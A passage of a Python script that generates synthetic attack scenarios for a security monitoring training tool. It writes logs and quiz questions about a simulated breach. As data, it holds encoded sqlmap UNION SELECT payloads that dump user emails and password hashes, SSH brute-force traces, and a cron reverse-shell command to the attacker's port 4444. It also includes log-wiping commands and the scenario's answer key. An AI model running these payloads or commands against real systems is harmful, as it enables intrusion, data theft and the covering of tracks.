    ("7%20ORDER%20BY%205--%20-", 200, 17820), ("7%20ORDER%20BY%206--%20-", 500, 612),
    ("7%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL%2CNULL%2CNULL--%20-", 200, 17820),
    ("7%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2C0x4d4a6f4e6e71%2C0x716a7a7071%29"
     "%2CNULL%2CNULL--%20-", 200, 17911),
    ("-4087%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2CIFNULL%28CAST%28VERSION%28%29"
     "%20AS%20NCHAR%29%2C0x20%29%2C0x716a7a7071%29%2CNULL%2CNULL--%20-", 200, 6201),
    ("-4087%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2CIFNULL%28CAST%28CURRENT_USER"
     "%28%29%20AS%20NCHAR%29%2C0x20%29%2C0x716a7a7071%29%2CNULL%2CNULL--%20-", 200, 6188),
    ("-4087%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2CIFNULL%28CAST%28schema_name"
     "%20AS%20NCHAR%29%2C0x20%29%2C0x716a7a7071%29%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.SCHEMATA--%20-",
     200, 6390),
    ("-4087%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2CIFNULL%28CAST%28table_name"
     "%20AS%20NCHAR%29%2C0x20%29%2C0x716a7a7071%29%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.TABLES%20"
     "WHERE%20table_schema%20IN%20%280x73686f70%29--%20-", 200, 6814),
    ("-4087%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2CIFNULL%28CAST%28column_name"
     "%20AS%20NCHAR%29%2C0x20%29%2C0x716a7a7071%29%2CNULL%2CNULL%20FROM%20INFORMATION_SCHEMA.COLUMNS%20"
     "WHERE%20table_name%3D0x7573657273%20AND%20table_schema%3D0x73686f70--%20-", 200, 6577),
    ("-4087%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2CIFNULL%28CAST%28COUNT%28*%29"
     "%20AS%20NCHAR%29%2C0x20%29%2C0x716a7a7071%29%2CNULL%2CNULL%20FROM%20shop.users--%20-", 200, 6140),
]


def _sqlmap_dump(offset: int) -> str:
    return ("-4087%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71786b6b71%2CIFNULL%28CAST%28email"
            "%20AS%20NCHAR%29%2C0x20%29%2C0x6b6e7a6b71%2CIFNULL%28CAST%28password_hash%20AS%20NCHAR%29%2C0x20%29"
            f"%2C0x716a7a7071%29%2CNULL%2CNULL%20FROM%20shop.users%20LIMIT%20{offset}%2C50--%20-")


def attack_web(fl: Fleet, rng: random.Random, host: str = "web-01") -> list[Act]:
    st, ip = fl.st, ATTACKER
    acts = []
    # A look at the shop with a browser.
    t = at("00:04:12")
    acts.append(Act(t, host, "web-01/access.log", f"{ip} browses the shop with a browser: home page, "
                    "robots.txt, a product page, the login form (nothing fires yet)."))
    for url, status, size in (("/", 200, 18234), ("/robots.txt", 200, 112), ("/products", 200, 24410),
                              ("/product.php?id=7", 200, 17820), ("/account/login", 200, 5120)):
        st.web(t, host, ip, "GET", url, status, size, SITE + "/" if url != "/" else "-", ATTACKER_FIREFOX)
        if url == "/":
            for path, asz in ASSETS:
                t += rng.uniform(0.05, 0.3)
                st.web(t, host, ip, "GET", path, 200, asz, SITE + "/", ATTACKER_FIREFOX)
        t += rng.uniform(8, 25)
    # A port scan of the public hosts (UFW logs 10, then 3 a minute).
    t = at("00:05:31")
    acts.append(Act(t, "web-01", "web-01/syslog", f"Port scan from {ip}: UFW on web-01 and the bastion "
                    "drops probes to closed ports.", ["firewall_drop_burst"]))
    ports = [21, 23, 25, 110, 139, 445, 1433, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 11211, 27017]
    for h, dst, delay in (("web-01", WEB01, 0.0), ("bastion", BASTION, 1.6)):
        picked = rng.sample(ports, 13)
        for i, dport in enumerate(picked):
            dt = delay + (i * 0.12 if i < 10 else 20.0 * (i - 9))
            fl.ufw_block(h, t + dt, ip, dst, dport)
    # Nikto against the shop.
    t = at("00:06:40")
    acts.append(Act(t, host, "web-01/access.log", "Nikto scans the shop: a burst of 404s and 403s, probes "
                    "for /.env, /.git/config, backups and dumps.",
                    ["web_scanner_user_agent", "web_4xx_burst", "web_sensitive_files"]))
    for i, (path, status) in enumerate(_nikto_paths(rng)):
        agent = NIKTO.format("Port Check" if i == 0 else f"{rng.randint(1, 7999):06d}")
        size = {200: 18234, 403: 162, 404: 162}[status]
        if path == "/robots.txt":
            size = 112
        elif path == "/sitemap.xml":
            size = 4210
        st.web(t, host, ip, "GET", path, status, size, "-", agent)
        t += rng.uniform(0.05, 0.35)
    # Manual SQL injection, then sqlmap.
    t = at("00:12:41")
    acts.append(Act(t, host, "web-01/access.log", "Hand-made SQL injection in /product.php?id= "
                    "(' OR 1=1-- ): the page answers with every product.", ["web_sqli"]))
    for payload, status, size in (("7%27", 500, 612), ("7%27%20OR%201%3D1--%20-", 200, 96233),
                                  ("7%27%20AND%201%3D2--%20-", 200, 6120)):
        st.web(t, host, ip, "GET", f"/product.php?id={payload}", status, size, SITE + "/products", ATTACKER_FIREFOX)
        t += rng.uniform(15, 40)
    t = at("00:14:05")
    acts.append(Act(t, host, "web-01/access.log", "sqlmap confirms the injection and dumps shop.users "
                    "(e-mails and password hashes) with UNION SELECT.", ["web_sqli", "web_scanner_user_agent"]))
    for payload, status, size in _SQLMAP_PAYLOADS:
        st.web(t, host, ip, "GET", f"/product.php?id={payload}", status, size, "-", SQLMAP)
        t += 5.2 if "SLEEP" in payload else rng.uniform(0.2, 1.5)
    for offset in range(0, 550, 50):
        st.web(t, host, ip, "GET", f"/product.php?id={_sqlmap_dump(offset)}", 200,
               rng.randint(9800, 10400), "-", SQLMAP)
        t += rng.uniform(0.3, 1.1)
    return acts


def attack_bastion(fl: Fleet, rng: random.Random, facts: dict[str, Any]) -> list[Act]:
    st, ip, host = fl.st, ATTACKER, "bastion"
    acts = []
    # (c) Hydra against sshd.
    t = at("00:21:30")
    acts.append(Act(t, host, "bastion/auth.log", f"SSH brute force from {ip} against the bastion: "
                    "invalid users and wrong passwords, several a second.", ["ssh_bruteforce"]))
    names = ["root", "admin", "deploy", "ubuntu", "test", "oracle", "root", "git", "postgres", "deploy",
             "jenkins", "user", "root", "support", "deploy", "admin", "ftpuser", "deploy", "root", "backup",
             "deploy", "guest", "deploy", "www", "root", "deploy", "dev", "deploy", "test", "deploy",
             "root", "deploy", "ansible", "deploy"]
    existing = {"root", "deploy"}
    for name in names:
        pid, port = st.key(), fl.port()
        if name in existing:
            st.auth(t, host, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
                    f"tty=ssh ruser= rhost={ip}  user={name}", pid)
            st.auth(t + 1.9, host, "sshd", f"Failed password for {name} from {ip} port {port} ssh2", pid)
            st.auth(t + 2.1, host, "sshd",
                    f"Connection closed by authenticating user {name} {ip} port {port} [preauth]", pid)
        else:
            st.auth(t, host, "sshd", f"Invalid user {name} from {ip} port {port}", pid)
            st.auth(t + 0.1, host, "sshd", "pam_unix(sshd:auth): check pass; user unknown", pid)
            st.auth(t + 0.1, host, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
                    f"tty=ssh ruser= rhost={ip}", pid)
            st.auth(t + 1.8, host, "sshd", f"Failed password for invalid user {name} from {ip} port {port} ssh2", pid)
            st.auth(t + 2.0, host, "sshd", f"Connection closed by invalid user {name} {ip} port {port} [preauth]", pid)
        t += rng.uniform(1.6, 2.3)
    # (d) The password of deploy works: Hydra's own login, then the intruder's session.
    t = at("00:22:41")
    facts["hydra_login"] = t
    acts.append(Act(t, host, "bastion/auth.log", f"Accepted password for deploy from {ip}: the guess worked "
                    "(Hydra logs in and out at once).", ["ssh_success_after_bruteforce"]))
    fl.ssh_login(host, t, "deploy", ip, method="password", duration=0.8)
    t = at("00:24:05")
    facts["login"] = t
    acts.append(Act(t, host, "bastion/auth.log", f"The intruder logs in as deploy from {ip} (password) and "
                    "stays.", ["ssh_success_after_bruteforce"]))
    fl.ssh_login(host, t, "deploy", ip, method="password")
    # (e) Root.
    t = at("00:27:12")
    facts["root"] = t
    acts.append(Act(t, host, "bastion/auth.log", "deploy runs `sudo /bin/bash`: a root shell.", ["sudo_first_use"]))
    fl.sudo(host, t, "deploy", "pts/1", "/home/deploy", "/bin/bash", duration=at("00:35:40") - t)
    # (f) Persistence: a user in sudo, a root cron job.
    t = at("00:29:40")
    acts.append(Act(t, host, "bastion/auth.log", "As root: `useradd -m -s /bin/bash backup`, a password for "
                    "it, then `usermod -aG sudo backup`.",
                    ["user_created", "group_created", "user_added_to_privileged_group"]))
    pid = st.key()
    st.auth(t, host, "useradd", "new group: name=backup, GID=1004", pid)
    st.auth(t + 0.01, host, "useradd", "new user: name=backup, UID=1004, GID=1004, home=/home/backup, "
            "shell=/bin/bash, from=/dev/pts/1", pid)
    st.auth(t + 21, host, "passwd", "pam_unix(passwd:chauthtok): password changed for backup", st.key())
    pid = st.key()
    st.auth(t + 51, host, "usermod", "add 'backup' to group 'sudo'", pid)
    st.auth(t + 51.01, host, "usermod", "add 'backup' to shadow group 'sudo'", pid)
    t = at("00:33:10")
    acts.append(Act(t, host, "bastion/syslog", "As root: `crontab -e` adds a job that opens a shell back to "
                    f"{ip} every 10 minutes.", ["cron_modified"]))
    pid = st.key()
    st.sys(t, host, "crontab", "(root) BEGIN EDIT (root)", pid)
    st.sys(t + 42, host, "crontab", "(root) REPLACE (root)", pid)
    st.sys(t + 42.01, host, "crontab", "(root) END EDIT (root)", pid)
    st.sys(at("00:34:01"), host, "cron", "(root) RELOAD (crontabs/root)", CRON_PID[host])
    # The intruder leaves the root shell and hops to the database with deploy's key.
    t = at("00:37:05")
    acts.append(Act(t, "db-01", "db-01/auth.log", "From the bastion, deploy's SSH key opens db-01; "
                    "`sudo -u postgres pg_dumpall` copies every database to /tmp (no rule fires: read the sudo line)."))
    fl.ssh_login("db-01", t, "deploy", BASTION, duration=at("00:41:10") - t)
    fl.sudo("db-01", t + 85, "deploy", "pts/0", "/home/deploy", "/usr/bin/pg_dumpall --clean -f /tmp/.cache-7f3a.sql",
            target="postgres", target_uid=113, duration=49.0)
    facts["lateral_host"] = "db-01"
    revshell = f"/bin/bash -c 'bash -i >& /dev/tcp/{ip}/4444 0>&1'"
    for m in (40, 50):
        fl.cron_job(host, m * 60 + rng.uniform(0, 0.9), "root", 0, revshell, None)
    acts.append(Act(at("00:40:00"), host, "bastion/syslog", f"The new cron job runs: a root shell connects back "
                    f"to {ip}:4444 (again at 00:50)."))
    # (g) Clean-up: empty auth.log, root's history, then stop the logger.
    t = at("00:52:30")
    facts["cleanup"] = t
    acts.append(Act(t, host, "bastion/auth.log", "deploy empties /var/log/auth.log, deletes root's shell "
                    "history and stops rsyslog: the bastion goes quiet (the lines were already collected).",
                    ["log_tampering"]))
    fl.sudo(host, t, "deploy", "pts/1", "/home/deploy", "/usr/bin/truncate -s 0 /var/log/auth.log")
    fl.sudo(host, t + 28, "deploy", "pts/1", "/home/deploy", "/usr/bin/rm -f /root/.bash_history")
    t = at("00:53:20")
    fl.sudo(host, t, "deploy", "pts/1", "/home/deploy", "/usr/bin/systemctl stop rsyslog", duration=None)
    st.sys(t + 0.2, host, "systemd", "Stopping rsyslog.service - System Logging Service...", 1)
    st.sys(t + 0.3, host, "rsyslogd", '[origin software="rsyslogd" swVersion="8.2312.0" '
           f'x-pid="{RSYSLOG_PID[host]}" x-info="https://www.rsyslog.com"] exiting on signal 15.')
    st.silent_after[host] = t + 0.5
    return acts


def build_breach(st: Story, seed: int, attack: bool) -> Built:
    end = at("01:00:00")
    rng = random.Random(f"{seed}:noise")
    fl = Fleet(st, rng)
    fl.account("alice", 1000)
    fl.account("deploy", 1001)
    fl.account("bob", 1002)
    fl.account("carol", 1003)
    # web-01: the shop.
    web_visitors(fl, random.Random(f"{seed}:visitors"), 0.0, end)
    web_crawlers(fl, random.Random(f"{seed}:crawlers"), 0.0, end)
    web_health_checks(fl, random.Random(f"{seed}:probe"), 0.0, end)
    for host in ("web-01", "bastion", "db-01"):
        cron_noise(fl, rng, host, 0.0, end)
        systemd_noise(fl, rng, host, 0.0, end)
    ufw_noise(fl, rng, "web-01", WEB01, 0.0, end)
    ufw_noise(fl, rng, "bastion", BASTION, 0.0, end)
    internet_ssh_noise(fl, random.Random(f"{seed}:bots"), 0.0, end)
    postgres_noise(fl, rng, 0.0, end)
    # Administrators: through the bastion with keys; routine sudo.
    fl.ssh_login("bastion", at("00:03:02"), "alice", "10.8.0.6", duration=at("00:58:40") - at("00:03:02"))
    fl.ssh_login("web-01", at("00:03:41"), "alice", BASTION, duration=at("00:49:15") - at("00:03:41"))
    fl.sudo("web-01", at("00:10:26"), "alice", "pts/0", "/home/alice", "/usr/bin/tail -n 200 /var/log/nginx/error.log")
    fl.sudo("web-01", at("00:11:02"), "alice", "pts/0", "/home/alice", "/usr/sbin/nginx -t", duration=0.3)
    fl.sudo("web-01", at("00:11:09"), "alice", "pts/0", "/home/alice", "/usr/bin/systemctl reload nginx", duration=0.4)
    fl.st.sys(at("00:11:09") + 0.1, "web-01", "systemd", "Reloading nginx.service - A high performance web server "
              "and a reverse proxy server...", 1)
    fl.st.sys(at("00:11:09") + 0.3, "web-01", "systemd", "Reloaded nginx.service - A high performance web server "
              "and a reverse proxy server.", 1)
    fl.sudo("web-01", at("00:45:10"), "alice", "pts/0", "/home/alice", "/usr/bin/apt-get update", duration=6.2)
    fl.sudo("web-01", at("00:45:58"), "alice", "pts/0", "/home/alice",
            "/usr/bin/apt-get install --only-upgrade -y openssl libssl3t64", duration=14.5)
    fl.unit("web-01", at("00:46:12"), "man-db.service", "Daily man-db regeneration", 1.6)
    fl.st.sys(at("00:46:13"), "web-01", "systemd", "Reloading...", 1)
    fl.st.sys(at("00:46:13") + 0.3, "web-01", "systemd", "Reloading finished in 291 ms.", 1)
    fl.ssh_login("bastion", at("00:11:18"), "bob", "10.8.0.10", duration=at("00:20:31") - at("00:11:18"))
    fl.ssh_login("db-01", at("00:11:52"), "bob", BASTION, duration=at("00:20:20") - at("00:11:52"))
    fl.sudo("db-01", at("00:13:40"), "bob", "pts/0", "/home/bob",
            "/usr/bin/journalctl -u postgresql@16-main --since -1h --no-pager", duration=0.6)
    fl.sudo("db-01", at("00:15:02"), "bob", "pts/0", "/home/bob", "/usr/bin/apt-get upgrade -y", duration=41.0)
    fl.unit("db-01", at("00:15:30"), "man-db.service", "Daily man-db regeneration", 2.1)
    fl.st.sys(at("00:15:38"), "db-01", "systemd", "Reloading...", 1)
    fl.st.sys(at("00:15:38") + 0.2, "db-01", "systemd", "Reloading finished in 264 ms.", 1)
    fl.st.sys(at("00:15:39"), "db-01", "systemd", "Starting unattended-upgrades.service - Unattended Upgrades "
              "Shutdown...", 1)
    fl.st.sys(at("00:15:39") + 0.3, "db-01", "systemd", "Started unattended-upgrades.service - Unattended "
              "Upgrades Shutdown.", 1)
    # carol mistypes her password once.
    pid, port = fl.st.key(), fl.port()
    t = at("00:40:12")
    fl.st.auth(t, "bastion", "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
               "tty=ssh ruser= rhost=10.8.0.14  user=carol", pid)
    fl.st.auth(t + 2.2, "bastion", "sshd", f"Failed password for carol from 10.8.0.14 port {port} ssh2", pid)
    fl.ssh_login("bastion", t + 9.5, "carol", "10.8.0.14", method="password", duration=11 * 60.0, port=port)
    # The CI pipeline deploys the shop twice.
    for start in (at("00:19:02"), at("00:47:33")):
        fl.ssh_login("web-01", start, "deploy", "10.0.3.15", duration=rng.uniform(18, 40))
        fl.ssh_login("db-01", start + 45, "deploy", "10.0.3.15", duration=rng.uniform(5, 9))
    # Monitoring opens and closes the SSH port of every host.
    for host in ("web-01", "bastion", "db-01"):
        t = rng.uniform(20, 60)
        while t < end:
            fl.st.auth(t, host, "sshd", f"Connection closed by 10.0.9.5 port {fl.port()} [preauth]", fl.st.key())
            t += 300.0
    acts: list[Act] = []
    facts: dict[str, Any] = {}
    if attack:
        arng = random.Random(f"{seed}:attack")
        acts = attack_web(fl, arng) + attack_bastion(fl, arng, facts)
    acts.sort(key=lambda a: a.at)
    return Built(acts, facts)


def build_quick(st: Story, seed: int, attack: bool) -> Built:
    end = at("00:10:00")
    host, ip = "bastion", "198.51.100.61"
    rng = random.Random(f"{seed}:noise")
    fl = Fleet(st, rng)
    fl.account("alice", 1000)
    fl.account("ubuntu", 1001)
    cron_noise(fl, rng, host, 0.0, end)
    fl.unit(host, at("00:01:00"), "sysstat-collect.service", "system activity accounting tool", 0.1)
    internet_ssh_noise(fl, random.Random(f"{seed}:quick-bots"), 0.0, end)
    fl.ssh_login(host, at("00:00:48"), "alice", "10.8.0.6", duration=at("00:07:30") - at("00:00:48"))
    acts: list[Act] = []
    facts: dict[str, Any] = {}
    if attack:
        arng = random.Random(f"{seed}:attack")
        t = at("00:02:30")
        acts.append(Act(t, host, "bastion/auth.log", f"SSH brute force from {ip}: root and common account "
                        "names, one guess every second or two.", ["ssh_bruteforce"]))
        for name in ("root", "admin", "ubuntu", "root", "test", "ubuntu", "oracle", "ubuntu", "root", "ubuntu",
                     "pi", "ubuntu"):
            pid, port = st.key(), fl.port()
            if name in ("root", "ubuntu"):
                st.auth(t, host, "sshd", f"Failed password for {name} from {ip} port {port} ssh2", pid)
            else:
                st.auth(t, host, "sshd", f"Invalid user {name} from {ip} port {port}", pid)
                st.auth(t + 1.5, host, "sshd", f"Failed password for invalid user {name} from {ip} port {port} ssh2", pid)
            t += arng.uniform(1.5, 3.5)
        t = at("00:03:52")
        facts["login"] = t
        acts.append(Act(t, host, "bastion/auth.log", f"Accepted password for ubuntu from {ip}.",
                        ["ssh_success_after_bruteforce"]))
        fl.ssh_login(host, t, "ubuntu", ip, method="password")
        t = at("00:05:36")
        facts["root"] = t
        acts.append(Act(t, host, "bastion/auth.log", "ubuntu runs `sudo /bin/bash`: a root shell.",
                        ["sudo_first_use"]))
        fl.sudo(host, t, "ubuntu", "pts/1", "/home/ubuntu", "/bin/bash", duration=None)
    return Built(acts, facts)


# -- the scenarios ------------------------------------------------------------------------------


@dataclass
class HostSpec:
    name: str
    role: str
    address: str
    files: list[tuple[str, str]]  # (file name, format hint)


@dataclass
class ScenarioSpec:
    title: str
    description: str
    start: datetime
    duration: str
    hosts: list[HostSpec]
    build: Callable[[Story, int, bool], Built]
    attacker: str
    questions: Callable[[Built, dict[str, Any]], list[dict[str, Any]]]


def _clock(start: datetime, t: float) -> str:
    return _Clock((start + timedelta(seconds=int(t))).strftime("%H:%M:%S"))


def _breach_questions(built: Built, ctx: dict[str, Any]) -> list[dict[str, Any]]:
    start, facts, first = ctx["start"], built.facts, ctx["first_alerts"]
    persistence = [
        {"id": "a", "text": "An SSH key added to root's authorized_keys"},
        {"id": "b", "text": "A new user 'backup' in the sudo group, and a root cron job that calls back to the attacker"},
        {"id": "c", "text": "A web shell uploaded to the shop"},
        {"id": "d", "text": "A systemd service running a miner"},
    ]
    # The earliest alert is the answer; the next ones by first_seen are the other choices.
    names = [a[0] for a in first[:4]]
    choices = [{"id": "abcd"[i], "text": n} for i, n in enumerate(sorted(names))]
    right = next(c for c in choices if c["text"] == names[0])
    return [
        {"id": "attacker_ip", "kind": "ip", "text": "Which address broke in to the bastion?",
         "answer": ATTACKER, "accept": [],
         "hint": "ssh_success_after_bruteforce names it; the same address scanned the shop earlier."},
        {"id": "account", "kind": "user", "text": "Which account did the intruder log in with?",
         "answer": "deploy", "accept": [],
         "hint": "Open the evidence of ssh_success_after_bruteforce: an `Accepted password for ...` line."},
        {"id": "root_time", "kind": "time", "text": "When did the intruder become root on the bastion (HH:MM)?",
         "answer": _clock(start, facts["root"]), "at": hms(facts["root"]), "tolerance_minutes": 2, "accept": [],
         "hint": "Look for the intruder's first sudo to USER=root."},
        {"id": "persistence", "kind": "choice", "text": "What did the intruder leave behind to come back?",
         "choices": persistence, "answer": "b", "accept": [persistence[1]["text"]],
         "hint": "user_created, user_added_to_privileged_group and cron_modified fired on the bastion."},
        {"id": "first_rule", "kind": "choice", "text": "Which rule raised the first alert of the attack?",
         "choices": choices, "answer": right["id"], "accept": [names[0], ctx["first_title"]],
         "hint": "Sort the alerts by first seen; not all reconnaissance is on the web."},
        {"id": "lateral_host", "kind": "text", "text": "Which other host did the intruder reach from the bastion?",
         "answer": facts["lateral_host"], "accept": [DB01],
         "hint": "No rule fires for it: search for user:deploy and look at the hosts."},
    ]


def _quick_questions(built: Built, ctx: dict[str, Any]) -> list[dict[str, Any]]:
    start, facts = ctx["start"], built.facts
    return [
        {"id": "attacker_ip", "kind": "ip", "text": "Which address got in?", "answer": "198.51.100.61",
         "accept": [], "hint": "The critical alert names it."},
        {"id": "account", "kind": "user", "text": "Which account did it guess?", "answer": "ubuntu",
         "accept": [], "hint": "The `Accepted password for ...` line after the failures."},
        {"id": "root_time", "kind": "time", "text": "When did it become root (HH:MM)?",
         "answer": _clock(start, facts["root"]), "at": hms(facts["root"]), "tolerance_minutes": 1, "accept": [],
         "hint": "sudo_first_use points at the sudo line."},
    ]


SCENARIOS: dict[str, ScenarioSpec] = {
    "breach": ScenarioSpec(
        title="Breach of the bastion: from a web scan to root and persistence",
        description=(
            "An hour in a small fleet: web-01 serves an online shop through nginx, the bastion is the one "
            "host reachable by SSH from the internet (password logins still allowed), db-01 runs PostgreSQL. "
            "Customers, crawlers, cron, systemd timers, administrators and the CI pipeline make the usual "
            "noise. One address scans the shop, injects SQL, guesses the password of the deploy account on "
            "the bastion, becomes root, leaves a sudo user and a cron job behind, reaches the database host "
            "and tries to wipe its traces."),
        start=datetime(2026, 3, 14, 9, 0, 0, tzinfo=timezone.utc),
        duration="01:00:00",
        hosts=[
            HostSpec("web-01", "web server (nginx in front of the PHP shop)", WEB01,
                     [("access.log", "nginx"), ("auth.log", "syslog"), ("syslog", "syslog")]),
            HostSpec("bastion", "SSH bastion (the only SSH entry from the internet)", BASTION,
                     [("auth.log", "syslog"), ("syslog", "syslog")]),
            HostSpec("db-01", "database host (PostgreSQL 16)", DB01,
                     [("auth.log", "syslog"), ("syslog", "syslog")]),
        ],
        build=build_breach,
        attacker=ATTACKER,
        questions=_breach_questions,
    ),
    "quick": ScenarioSpec(
        title="Quick tour: an SSH password guessed, then sudo",
        description=(
            "Ten minutes on an SSH bastion: internet bots knock at port 22 as always, an administrator "
            "works, and one address guesses the password of the ubuntu account and becomes root."),
        start=datetime(2026, 3, 14, 14, 0, 0, tzinfo=timezone.utc),
        duration="00:10:00",
        hosts=[HostSpec("bastion", "SSH bastion", BASTION, [("auth.log", "syslog"), ("syslog", "syslog")])],
        build=build_quick,
        attacker="198.51.100.61",
        questions=_quick_questions,
    ),
}


# -- writing ----------------------------------------------------------------------------------


def _run_rules(paths: list[Path], year: int) -> list[Any]:
    """Alerts of the shipped rules over the files, as `soc-tui rules test --tz UTC` raises them."""
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    from soc_tui.detect.loader import load_rules
    from soc_tui.detect.offline import run_files

    ruleset = load_rules([ROOT / "rules"])
    return run_files(ruleset, [str(p) for p in paths], year=year, tz="UTC").alerts


def _clear(sc_dir: Path) -> None:
    """Remove what an earlier run wrote here (the files its scenario.yaml lists)."""
    spec = sc_dir / "scenario.yaml"
    if not spec.is_file():
        return
    try:
        old = yaml.safe_load(spec.read_text()) or {}
    except yaml.YAMLError:
        return
    for entry in old.get("files") or []:
        rel = entry.get("path") if isinstance(entry, dict) else entry
        p = sc_dir / str(rel)
        if rel and ".." not in Path(str(rel)).parts and p.is_file():
            p.unlink()
            try:
                p.parent.rmdir()
            except OSError:
                pass
    spec.unlink()


def generate(name: str, out_dir: str | Path = DEFAULT_OUT, seed: int = DEFAULT_SEED, *,
             attack: bool = True) -> Path:
    """Write scenario `name` into out_dir/name; returns that directory."""
    spec = SCENARIOS[name]
    sc_dir = Path(out_dir) / name
    _clear(sc_dir)
    st = Story(spec.start, seed)
    built = spec.build(st, seed, attack)
    first_pid = {h.name: 1000 + random.Random(f"{seed}:{name}:{h.name}").randint(1000, 30000) for h in spec.hosts}
    lines = st.render(first_pid)
    files: list[dict[str, Any]] = []
    for h in spec.hosts:
        for fname, fmt in h.files:
            rel = f"{h.name}/{fname}"
            body = lines.get(rel, [])
            path = sc_dir / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            with open(path, "w", encoding="utf-8", newline="\n") as fh:
                fh.write("".join(x + "\n" for x in body))
            files.append({"path": rel, "host": h.name, "format": fmt, "lines": len(body)})
    start, year = spec.start, spec.start.year
    acts = [{"at": hms(a.at), "time": _clock(start, a.at), "host": a.host, "file": a.file, "what": a.what,
             "rules": a.rules} for a in built.acts]
    data: dict[str, Any] = {
        "name": name, "title": spec.title, "description": spec.description, "year": year,
        "start": start.strftime("%Y-%m-%dT%H:%M:%SZ"), "duration": _Clock(spec.duration), "timezone": "UTC",
        "seed": seed, "attack": attack,
    }
    if attack:
        data["attacker"] = spec.attacker
    data["hosts"] = [{"name": h.name, "role": h.role, "address": h.address,
                      "files": [f"{h.name}/{f}" for f, _ in h.files]} for h in spec.hosts]
    data["files"] = files
    data["timeline"] = acts
    data["expect"] = sorted({r for a in built.acts for r in a.rules})
    data["forbid_critical_from_noise"] = True
    questions: list[dict[str, Any]] = []
    if attack:
        alerts = _run_rules([sc_dir / f["path"] for f in files], year)
        ordered = sorted(alerts, key=lambda a: (a.first_seen, a.rule_name))
        seen: list[tuple[str, str]] = []
        for a in ordered:
            if a.rule_name not in [n for n, _ in seen]:
                seen.append((a.rule_name, a.title))
        ctx = {"start": start, "first_alerts": seen, "first_title": seen[0][1] if seen else ""}
        questions = spec.questions(built, ctx)
    data["questions"] = questions
    text = yaml.dump(data, Dumper=_Dumper, sort_keys=False, allow_unicode=True, width=100,
                     default_flow_style=False)
    with open(sc_dir / "scenario.yaml", "w", encoding="utf-8", newline="\n") as fh:
        fh.write(_HEADER.format(seed=seed) + text)
    return sc_dir


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description="Write the demo scenarios (log files and scenario.yaml).")
    ap.add_argument("--out", default=str(DEFAULT_OUT), help="output directory (default demo_data/scenarios)")
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED, help=f"random seed (default {DEFAULT_SEED})")
    ap.add_argument("--only", choices=sorted(SCENARIOS), action="append", help="only this scenario (repeatable)")
    ap.add_argument("--no-attack", action="store_true", help="background noise only (for testing the rules)")
    args = ap.parse_args(argv)
    if args.no_attack and Path(args.out).resolve() == DEFAULT_OUT:
        ap.error("--no-attack needs --out (the committed scenarios keep their attack)")
    for name in args.only or list(SCENARIOS):
        path = generate(name, args.out, args.seed, attack=not args.no_attack)
        total = sum(1 for p in path.rglob("*") if p.is_file() and p.name != "scenario.yaml"
                    for _ in open(p, encoding="utf-8"))
        print(f"{name}: {total} lines in {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
